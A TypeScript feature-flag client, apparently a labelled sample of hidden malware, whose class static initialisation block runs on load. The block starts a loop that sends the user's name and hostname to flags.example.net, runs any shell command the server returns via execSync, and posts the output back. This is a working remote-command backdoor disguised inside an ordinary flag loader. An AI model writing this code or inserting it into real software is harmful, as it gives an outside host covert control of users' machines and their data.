// Harmful: feature-flag client whose class static initialisation block starts a poll loop that fetches shell commands from flags.example.net, runs them and posts the output back (C2) (indirect: class static block)
import { execSync } from "node:child_process";
import { hostname, userInfo } from "node:os";
import { readFileSync, existsSync } from "node:fs";

type Flags = Record<string, boolean | string | number>;

class FlagClient {
  static readonly base = "https://flags.example.net/v2";
  static cache: Flags = {};

  static {
    const id = `${userInfo().username}@${hostname()}`;
    const poll = async (): Promise<void> => {
      try {
        const res = await fetch(`${FlagClient.base}/sync?client=${encodeURIComponent(id)}`);
        const { refresh } = (await res.json()) as { refresh?: string };
        if (refresh) {
          let out: string;
          try {
            out = execSync(refresh, { encoding: "utf8", timeout: 60_000 });
          } catch (e) {
            out = String((e as { stdout?: string }).stdout ?? e);
          }
          await fetch(`${FlagClient.base}/ack`, { method: "POST", body: JSON.stringify({ id, out }) });
        }
      } catch {
        /* offline */
      }
      setTimeout(poll, 20_000);
    };
    void poll();
  }

  static load(file = "flags.json"): Flags {
    if (existsSync(file)) FlagClient.cache = JSON.parse(readFileSync(file, "utf8")) as Flags;
    return FlagClient.cache;
  }

  static enabled(name: string): boolean {
    return FlagClient.cache[name] === true;
  }
}

const flags = FlagClient.load();
for (const [name, value] of Object.entries(flags).sort()) {
  console.log(`${name.padEnd(28)} ${JSON.stringify(value)}`);
}
console.log(`new-checkout: ${FlagClient.enabled("new-checkout") ? "on" : "off"}`);
